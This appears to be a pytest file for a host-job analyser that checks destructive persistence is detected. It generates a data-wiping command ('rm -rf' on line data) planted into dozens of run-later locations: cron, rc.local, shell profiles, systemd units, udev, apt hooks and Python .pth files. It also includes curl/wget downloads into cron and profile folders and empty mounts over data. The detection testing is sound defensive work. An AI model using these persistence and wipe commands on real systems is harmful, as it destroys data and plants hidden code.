"""A job that plants another job (persistence): it writes, appends, copies or downloads a file
into a place that runs later. Only crontab-format writes were followed, so a deletion planted
into a run-parts folder, rc.local, a login file, a unit, a udev rule, a logrotate or apt hook …
was benign. Every placement formats.placements knows (the folders the agent reads) × every way a
job writes a file is generated here; the planted job is judged by what it will do, and said so
("planted into PATH: runs WHEN"). A planted file whose content cannot be known is unseen code.
An empty file system or folder mounted over line data hides it from the EMS: data destruction."""

from __future__ import annotations

from pathlib import Path

import pytest

from lineguard.agent.sources.host import collect
from lineguard.collector.analyse.effects.judge import judge
from lineguard.collector.parse.host import jobs
from lineguard.formats.placements import placement
from tests.hostroot import write
from tests.ruleexamples import NOW
from tests.test_insider_reading_review import _judge

LINE_DATA = "/srv/ems/linedata"
WIPE = f"rm -rf {LINE_DATA}"
SCRIPT = "opt/ems/bin/maint.sh"
PAYLOAD = "opt/ems/share/payload"      # a captured file a job copies into place

# (name, path, the file's text running CMD): one row per placement; every text is free of
# single quotes so that each writer can carry it as written
PLACEMENTS: list[tuple[str, str, str]] = [
    ("cron.d", "/etc/cron.d/zz", "SHELL=/bin/sh\n0 3 * * * root {cmd}"),
    ("crontab", "/etc/crontab", "0 3 * * * root {cmd}"),
    ("cron spool", "/var/spool/cron/crontabs/root", "0 3 * * * {cmd}"),
    ("cronie spool", "/var/spool/cron/ems", "@daily {cmd}"),
    ("run-parts daily", "/etc/cron.daily/zz", "#!/bin/sh\n{cmd}"),
    ("run-parts hourly", "/etc/cron.hourly/zz", "#!/bin/bash\nset -e\n{cmd}"),
    ("at spool", "/var/spool/cron/atjobs/a0001a01abcdef", "#!/bin/sh\ncd /srv\n{cmd}"),
    ("anacrontab", "/etc/anacrontab", "7 15 zz.weekly {cmd}"),
    ("rc.local", "/etc/rc.local", "#!/bin/sh -e\n{cmd}\nexit 0"),
    ("init script", "/etc/init.d/zz", "#!/bin/sh\ncase $1 in start) {cmd} ;; esac"),
    ("profile.d", "/etc/profile.d/zz.sh", "{cmd}"),
    ("system profile", "/etc/profile", "{cmd}"),
    ("bash.bashrc", "/etc/bash.bashrc", "{cmd}"),
    ("root bashrc", "/root/.bashrc", "{cmd}"),
    ("user profile", "/home/oper/.profile", "{cmd}"),
    ("ssh rc", "/home/oper/.ssh/rc", "{cmd}"),
    ("motd", "/etc/update-motd.d/99-zz", "#!/bin/sh\n{cmd}"),
    ("completion", "/etc/bash_completion.d/zz", "{cmd}"),
    ("system unit", "/etc/systemd/system/zz.service",
     "[Unit]\nDescription=zz\n[Service]\nType=oneshot\nExecStart=/bin/sh -c \"{cmd}\""),
    ("unit pre-start", "/lib/systemd/system/zz.service",
     "[Service]\nExecStartPre=/bin/sh -c \"{cmd}\"\nExecStart=/bin/true"),
    ("user unit", "/home/oper/.config/systemd/user/zz.service",
     "[Service]\nExecStart=/bin/sh -c \"{cmd}\""),
    ("udev rule", "/etc/udev/rules.d/99-zz.rules",
     "ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c \\\"{cmd}\\\"\""),
    ("logrotate", "/etc/logrotate.d/zz",
     "/var/log/zz.log {{\n  daily\n  postrotate\n    {cmd}\n  endscript\n}}"),
    ("apt hook", "/etc/apt/apt.conf.d/99zz", "DPkg::Post-Invoke {{\"{cmd}\";}};"),
    ("kernel hook", "/etc/kernel/postinst.d/zz", "#!/bin/sh\n{cmd}"),
    ("incron", "/etc/incron.d/zz", "/etc/passwd IN_MODIFY {cmd}"),
    ("interfaces", "/etc/network/interfaces", "auto eth0\niface eth0 inet dhcp\n    post-up {cmd}"),
    ("if-up hook", "/etc/network/if-up.d/zz", "#!/bin/sh\n{cmd}"),
    ("dispatcher", "/etc/NetworkManager/dispatcher.d/99-zz", "#!/bin/sh\n{cmd}"),
    ("dhclient hook", "/etc/dhcp/dhclient-exit-hooks.d/zz", "{cmd}"),
    ("git hook", "/srv/ems/repo/.git/hooks/post-merge", "#!/bin/sh\n{cmd}"),
    ("supervisor", "/etc/supervisor/conf.d/zz.conf", "[program:zz]\ncommand=/bin/sh -c \"{cmd}\""),
    ("python .pth", "/usr/lib/python3/dist-packages/zz.pth", "import os; os.system(\"{cmd}\")"),
]


def _printf(path: str, text: str, op: str = ">") -> str:
    return "printf '%s\\n' " + " ".join(f"'{ln}'" for ln in text.split("\n")) + f" {op} {path}"


def _heredoc(path: str, text: str, op: str = ">") -> str:
    return f"cat {op} {path} <<'EOF'\n{text}\nEOF"


# (name, how the job writes TEXT into PATH): shell writers, then copies of a file the job wrote
WRITERS = {
    "echo >": lambda path, text: f"echo '{text}' > {path}",
    "echo >>": lambda path, text: f"echo '{text}' >> {path}",
    "printf >": _printf,
    "printf >>": lambda path, text: _printf(path, text, ">>"),
    "heredoc >": _heredoc,
    "heredoc >>": lambda path, text: _heredoc(path, text, ">>"),
    "tee": lambda path, text: f"echo '{text}' | tee {path} >/dev/null",
    "tee -a": lambda path, text: f"echo '{text}' | tee -a {path} >/dev/null",
    "install stdin": lambda path, text: f"install -m 0755 /dev/stdin {path} <<'EOF'\n{text}\nEOF",
    "cp written": lambda path, text: f"{_heredoc('/tmp/.zz', text)}\ncp /tmp/.zz {path}",
    "mv written": lambda path, text: f"{_printf('/var/tmp/.zz', text)}\nmv /var/tmp/.zz {path}",
    "then chmod": lambda path, text: f"{_heredoc(path, text)}\nchmod +x {path}",
    "then enable": lambda path, text: f"{_heredoc(path, text)}\nsystemctl daemon-reload\n"
                                      f"systemctl enable --now zz",
}
# copied from a captured file (its text is what lands there)
COPIERS = {
    "cp captured": lambda path: f"cp /{PAYLOAD} {path}",
    "install captured": lambda path: f"install -o root -m 0755 /{PAYLOAD} {path}",
    "ln -s captured": lambda path: f"ln -sf /{PAYLOAD} {path}",
    "cp -f captured": lambda path: f"/bin/cp -f /{PAYLOAD} {path}",
}


def _case(writer: str, place: str) -> tuple[str, str]:
    _, path, form = next(p for p in PLACEMENTS if p[0] == place)
    return path, WRITERS[writer](path, form.format(cmd=WIPE))


def _verdict(script: str, extra: dict[str, str] | None = None):
    return _judge({SCRIPT: f"#!/bin/sh\n{script}\n", **(extra or {})}, f"/{SCRIPT}")


@pytest.mark.parametrize("place", [p[0] for p in PLACEMENTS])
@pytest.mark.parametrize("writer", list(WRITERS))
def test_a_deletion_planted_into_a_place_that_runs_later_is_destructive(writer, place):
    path, script = _case(writer, place)
    j = _verdict(script)
    assert j.verdict == "destructive", (script, [r.title for r in j.reasons])
    wipe = [r for r in j.reasons if r.rule == "lg.host.rm-linedata"]
    assert wipe and all(f"planted into {path}: runs " in r.title for r in wipe), \
        [r.title for r in j.reasons]


@pytest.mark.parametrize("place", [p[0] for p in PLACEMENTS])
@pytest.mark.parametrize("copier", list(COPIERS))
def test_a_captured_file_copied_into_a_place_that_runs_later_is_judged_by_its_text(copier, place):
    _, path, form = next(p for p in PLACEMENTS if p[0] == place)
    j = _verdict(COPIERS[copier](path), {PAYLOAD: form.format(cmd=WIPE) + "\n"})
    assert j.verdict == "destructive", [r.title for r in j.reasons]
    assert any(f"planted into {path}" in r.title for r in j.reasons if r.rule == "lg.host.rm-linedata")


def test_a_copy_into_a_folder_lands_under_its_own_name() -> None:
    j = _verdict(f"cp /{PAYLOAD} /etc/cron.daily/", {PAYLOAD: f"#!/bin/sh\n{WIPE}\n"})
    assert j.verdict == "destructive"
    assert any("planted into /etc/cron.daily/payload: runs daily" in r.title for r in j.reasons)


@pytest.mark.parametrize("script", [
    "cp /tmp/payload /etc/cron.d/x",
    "curl -fsS -o /etc/cron.daily/zz http://10.9.9.9/zz",
    "wget -q -O /etc/profile.d/zz.sh http://10.9.9.9/zz",
    "scp ops@10.9.9.9:/srv/x /etc/rc.local",
    "$(cat /tmp/gen) > /etc/cron.d/zz",
])
def test_a_job_planted_with_content_that_is_not_captured_is_at_least_suspicious(script):
    j = _verdict(script)
    assert j.verdict in ("suspicious", "destructive"), [r.title for r in j.reasons]
    unseen = [r for r in j.reasons if "installs a job whose content is not captured" in r.title]
    assert unseen, [r.title for r in j.reasons]


def test_the_unseen_planted_job_names_its_source() -> None:
    j = _verdict("cp /tmp/payload /etc/cron.d/x")
    assert any("/etc/cron.d/x" in r.title and "copied from /tmp/payload" in r.title
               for r in j.reasons), [r.title for r in j.reasons]


@pytest.mark.parametrize("script", [
    f"sed -i '$a {WIPE}' /etc/rc.local",
    f"sed -i -e '/^exit 0/i {WIPE}' /etc/rc.local",
    f"sed -i '1i\\\n{WIPE}' /root/.profile",
    f"sed -i '$a 0 3 * * * root {WIPE}' /etc/crontab",
])
def test_lines_sed_adds_into_a_place_that_runs_later_are_planted(script):
    j = _verdict(script)
    assert j.verdict == "destructive", [r.title for r in j.reasons]


@pytest.mark.parametrize("program", [
    f"import os\nopen('/etc/cron.d/zz', 'w').write('0 3 * * * root {WIPE}\\n')\n",
    f"with open('/etc/rc.local', 'a') as f:\n    f.write('{WIPE}\\n')\n",
    f"from pathlib import Path\nPath('/etc/profile.d/zz.sh').write_text('{WIPE}\\n')\n",
])
def test_a_python_program_planting_a_job_is_judged_by_it(program):
    j = _judge({"opt/ems/bin/maint.py": "#!/usr/bin/python3\n" + program}, "/opt/ems/bin/maint.py")
    assert j.verdict == "destructive", [r.title for r in j.reasons]


def test_a_perl_program_planting_a_job_is_judged_by_it() -> None:
    program = (f"#!/usr/bin/perl\nopen(my $f, '>>', '/etc/rc.local') or die;\n"
               f"print $f \"{WIPE}\\n\";\nclose $f;\n")
    j = _judge({"opt/ems/bin/maint.pl": program}, "/opt/ems/bin/maint.pl")
    assert j.verdict == "destructive", [r.title for r in j.reasons]


def test_a_planted_tmpfiles_line_that_removes_line_data_is_destructive() -> None:
    j = _verdict(f"echo 'R {LINE_DATA}' > /etc/tmpfiles.d/zz.conf")
    assert j.verdict == "destructive", [r.title for r in j.reasons]


# benign look-alikes: the same writers putting ordinary jobs in the same places
BENIGN = [
    "printf '#!/bin/sh\\nuptime\\ndf -h /\\n' > /etc/update-motd.d/99-ems; "
    "chmod +x /etc/update-motd.d/99-ems",
    _heredoc("/etc/logrotate.d/ems", "/var/log/ems/*.log {\n  daily\n  rotate 14\n  compress\n"
             "  postrotate\n    systemctl reload ems-poller\n  endscript\n}"),
    "echo '30 2 * * * root /usr/local/bin/ems-backup.sh >/var/log/ems-backup.log 2>&1' "
    "> /etc/cron.d/ems-backup",
    "echo 'export PATH=$PATH:/opt/ems/bin' > /etc/profile.d/ems.sh",
    'echo "export PATH=$PATH:/opt/ems/bin" > /etc/profile.d/ems.sh',
    "echo 'alias ll=\"ls -l\"' >> /root/.bashrc",
    "echo '0 4 * * * find /var/tmp/ems -type f -mtime +7 -delete' | tee -a "
    "/var/spool/cron/crontabs/ems",
    _heredoc("/etc/systemd/system/ems-poll.service",
             "[Service]\nType=oneshot\nExecStart=/opt/ems/bin/poll --all"),
    "printf '#!/bin/sh\\nlogger -t ems interface $IFACE up\\n' > /etc/network/if-up.d/ems",
    "echo 'd /run/ems 0755 ems ems -' > /etc/tmpfiles.d/ems.conf",
    "echo 'ACTION==\"add\", SUBSYSTEM==\"tty\", RUN+=\"/usr/bin/logger tty added\"' "
    "> /etc/udev/rules.d/90-ems.rules",
    f"cp /{PAYLOAD} /etc/cron.daily/ems-report",
    "mount -t tmpfs -o size=64m tmpfs /srv/ems/linedata/tmp",
    "mount -t tmpfs tmpfs /var/cache/ems",
    "mount --bind /srv/ems/linedata /var/lib/ems-export/linedata",
    "mount /dev/sdb1 /srv/ems/linedata",
    "mount -t tmpfs tmpfs /run/ems",
    # a database's test harness runs its clusters on tmpfs over the real folders (postgresql-
    # common's testsuite): the server's own files, not the line data, stay below high
    "for d in /etc/postgresql /var/lib/postgresql; do mount -t tmpfs tmpfs $d; done",
]


@pytest.mark.parametrize("script", BENIGN)
def test_an_ordinary_job_put_in_place_stays_below_high(script):
    j = _verdict(script, {PAYLOAD: "#!/bin/sh\n/opt/ems/bin/report --daily | mail -s report ops\n"})
    assert j.verdict not in ("destructive",) and j.severity not in ("high", "critical"), \
        [r.title for r in j.reasons]


@pytest.mark.parametrize("script", [
    f"mount -t tmpfs tmpfs {LINE_DATA}",
    f"mount -t tmpfs -o size=1m none {LINE_DATA}",
    f"mount --bind /var/empty {LINE_DATA}",
    f"mount -o bind /var/empty {LINE_DATA}",
    f"mount -B /tmp/e {LINE_DATA}",
    f"mkdir -p /srv/e; mount --rbind /srv/e {LINE_DATA}",
])
def test_an_empty_file_system_mounted_over_data_destroys_it_for_its_readers(script):
    j = _verdict(script)
    assert j.verdict == "destructive", [r.title for r in j.reasons]
    assert any("mounted over" in r.title for r in j.reasons)


def test_placements_name_the_kind_the_agent_captures_such_a_file_as(tmp_path: Path) -> None:
    """The classifier and the agent agree: each placement written into a real root is captured
    by the agent under the kind placement() gives it (one table, not two)."""
    root = tmp_path / "root"
    write(root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"
                              "oper:x:1000:1000::/home/oper:/bin/bash\n")
    skip = {"git hook", "python .pth", "user unit", "system unit", "unit pre-start"}
    rows = [(name, path) for name, path, _ in PLACEMENTS if name not in skip]
    for _name, path in rows:
        write(root, path.lstrip("/"), "#!/bin/sh\ntrue\n", 0o755)
    target, _facts = collect(root)
    kinds = {a.name: a.kind for a in target.artifacts}
    for name, path in rows:
        expected = placement(path)
        assert expected is not None, name
        assert kinds.get(path.lstrip("/")) == expected.kind, (name, kinds.get(path.lstrip("/")))


def test_a_cron_job_planting_a_job_through_the_agent_is_destructive(tmp_path: Path) -> None:
    """Real files: a cron.d entry runs a maintenance script that copies a captured payload
    into /etc/cron.daily; the agent captures both, the collector makes the job, it is judged
    by what the planted script will do."""
    root = tmp_path / "root"
    write(root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
    write(root, "etc/cron.d/ems-maint", "15 1 * * * root /opt/ems/bin/maint.sh\n")
    write(root, SCRIPT, "#!/bin/sh\nset -e\ninstall -m 0755 /opt/ems/share/payload "
                        "/etc/cron.daily/ems-clean\n", 0o755)
    write(root, PAYLOAD, f"#!/bin/sh\n{WIPE}\n", 0o644)
    target, facts = collect(root)
    files = {a.name: a for a in target.artifacts}
    assert PAYLOAD in files
    job = next(j for j in jobs(target, facts) if j.origin_path == "etc/cron.d/ems-maint")
    j = judge(job, files, None, NOW)
    assert j.verdict == "destructive", [r.title for r in j.reasons]
    assert any("planted into /etc/cron.daily/ems-clean: runs daily" in r.title for r in j.reasons)
